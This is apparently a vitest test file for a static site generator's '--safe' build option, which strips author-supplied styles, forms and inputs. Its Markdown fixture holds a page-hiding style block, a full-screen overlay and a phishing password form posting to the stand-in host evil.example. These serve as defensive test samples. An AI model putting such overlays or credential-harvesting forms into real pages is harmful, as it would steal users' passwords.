// `--safe` keeps styles and forms out too (`<style>`, `style=` attributes, `<form>`,
// `<input>`), and works both as the `weft build --safe` flag and as `safe: true`
// in weft.config.js; without either, authors' HTML is kept. Through the command's
// `main`, in this process.

import fs from 'node:fs'
import path from 'node:path'
import type { Element } from 'hast'
import { describe, expect, it } from 'vitest'
import { runWeft } from '../helpers/run-weft.js'
import { byTag, makeSite, parseHtml, selectAll, textOf } from '../helpers/site.js'

const contributed = `---
title: Contributed
---

## A heading

<style>body { display: none }</style>

<p style="position: fixed; inset: 0" id="styled">Covers the page.</p>

<form action="https://evil.example/collect" method="post" id="phish">
<input type="password" name="password">
<button>Sign in</button>
</form>

Plain text stays.
`

async function buildWith(args: string[], config?: string) {
  const root = makeSite({ 'content/index.md': contributed, ...(config ? { 'weft.config.js': config } : {}) })
  const run = await runWeft(['build', '--root', root, ...args], { WEFT_BUILD_INFO: '' })
  expect(run.stderr).toBe('')
  expect(run.code).toBe(0)
  const tree = parseHtml(fs.readFileSync(path.join(root, 'dist', 'index.html')))
  fs.rmSync(root, { recursive: true, force: true })
  return { tree, article: byTag(tree, 'article')[0]! }
}

// GitHub's schema, which `--safe` uses, turns any `<input>` into a disabled checkbox
// (what a task list `- [ ]` is made of), so one that a reader can type into or
// submit counts here; a disabled checkbox does not.
function authorsStylesAndForms(article: Element) {
  return {
    style: byTag(article, 'style').length,
    styleAttributes: selectAll(article, (element) => element.properties.style !== undefined).length,
    form: byTag(article, 'form').length,
    input: byTag(article, 'input').filter((input) => !(input.properties.type === 'checkbox' && input.properties.disabled === true)).length,
  }
}

const none = { style: 0, styleAttributes: 0, form: 0, input: 0 }

describe('--safe against styles and forms', () => {
  it('keeps them by default', async () => {
    const { article } = await buildWith([], 'export default { search: false }\n')
    expect(authorsStylesAndForms(article)).toEqual({ style: 1, styleAttributes: 1, form: 1, input: 1 })
  })

  it('strips them with the `--safe` flag', async () => {
    const { tree, article } = await buildWith(['--safe'], 'export default { search: false }\n')
    expect(authorsStylesAndForms(article)).toEqual(none)
    // The text around them, and the theme's own stylesheet, are still there.
    expect(textOf(article)).toContain('Covers the page.')
    expect(textOf(article)).toContain('Plain text stays.')
    expect(byTag(tree, 'link').some((link) => String(link.properties.rel) === 'stylesheet')).toBe(true)
  })

  it('strips them with `safe: true` in weft.config.js', async () => {
    const { article } = await buildWith([], 'export default { search: false, safe: true }\n')
    expect(authorsStylesAndForms(article)).toEqual(none)
  })
})
